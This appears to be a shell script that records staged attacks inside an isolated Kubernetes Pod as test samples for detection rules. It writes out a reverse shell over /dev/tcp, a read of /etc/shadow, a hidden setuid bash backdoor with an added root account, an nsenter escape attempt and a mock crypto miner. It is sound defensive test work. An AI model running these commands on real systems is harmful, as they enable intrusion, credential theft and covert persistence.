# The stories, one function each; sourced by record.sh. Each runs while saker-capture records the
# Pod's cgroup; README.md tells each story and expected.yaml what the rules find in it.

# The Falco tutorial: someone opens a shell in the Pod as `kubectl exec -it` does, installs curl and
# fetches a page. The Pod has no way out, so apt and curl fail to resolve names; what they do
# (the processes, the files they open, the connection attempts) is recorded all the same.
scenario_tutorial() {
    pod_exec_typing /bin/bash 'apt update && apt install -y curl' 'curl https://google.com' 'exit'
}

# A reverse shell: a shell whose stdin, stdout and stderr are a TCP connection to the attacker,
# who types two commands into it.
scenario_reverse_shell() {
    { sleep 1; printf 'id\nuname -a\nexit\n'; sleep 2; } | outside timeout 10 ncat -l "$OUTSIDE_IP" 4444 >/dev/null &
    local listener=$!
    outside_listening 4444
    pod_exec /bin/bash -c "bash -i >& /dev/tcp/$OUTSIDE_IP/4444 0>&1" 2>/dev/null || true
    wait "$listener" || true
}

# Credential theft: a program with no business there reads the password hashes.
scenario_shadow_read() {
    pod_exec /bin/cat /etc/shadow >/dev/null
}

# Persistence: a root account appended to /etc/passwd and a copy of bash hidden in /usr/bin.
scenario_persistence() {
    pod_exec /bin/sh -c 'echo "sysadmin:x:0:0::/root:/bin/bash" | tee -a /etc/passwd >/dev/null &&
        cp /bin/bash /usr/bin/.kworker && chmod 4755 /usr/bin/.kworker'
}

# A container escape attempt: nsenter into the namespaces of pid 1, as with a hostPID Pod. Here
# pid 1 is the Pod's own nginx, so it stays inside; the attempt is what the rules see.
scenario_nsenter_escape() {
    pod_exec /usr/bin/nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c 'hostname; id' >/dev/null
}

# A crypto miner: in a shell opened with `kubectl exec -it`, the attacker drops an "xmrig" and starts
# it with a stratum pool address; it connects out to the pool and sends its login.
scenario_miner() {
    { sleep 6; } | outside timeout 12 ncat -l "$OUTSIDE_IP" 3333 >/dev/null &
    local pool=$!
    outside_listening 3333
    pod_exec_typing /bin/bash \
        "printf '#!/bin/bash\\nexec 3<>/dev/tcp/$OUTSIDE_IP/3333\\necho mining.subscribe >&3\\n' > /tmp/xmrig" \
        'chmod +x /tmp/xmrig' \
        '/tmp/xmrig -o stratum+tcp://pool.minexmr.example:3333 -u 44AFFq5kSiGBoZ --donate-level 1' \
        'exit'
    wait "$pool" || true
}

# Benign: nginx serving a few requests from a client outside the Pod. Nothing at WARNING or above.
scenario_benign() {
    local i
    for i in 1 2 3 4 5; do
        outside curl -s -o /dev/null "http://$POD_IP/" || true
        outside curl -s -o /dev/null "http://$POD_IP/missing.html" || true
        sleep 0.2
    done
}

record_scenario() {   # record_scenario NAME
    local name="$1" out="$OUT/$1.scap"
    log "recording $name -> $out"
    trap pod_down EXIT
    pod_up
    capture_start "$out.tmp"
    "scenario_${name//-/_}"
    capture_stop
    pod_down
    trap - EXIT
    mv "$out.tmp" "$out"
    chmod 0644 "$out"   # saker-capture writes 0600; the samples hold nothing of this machine
}
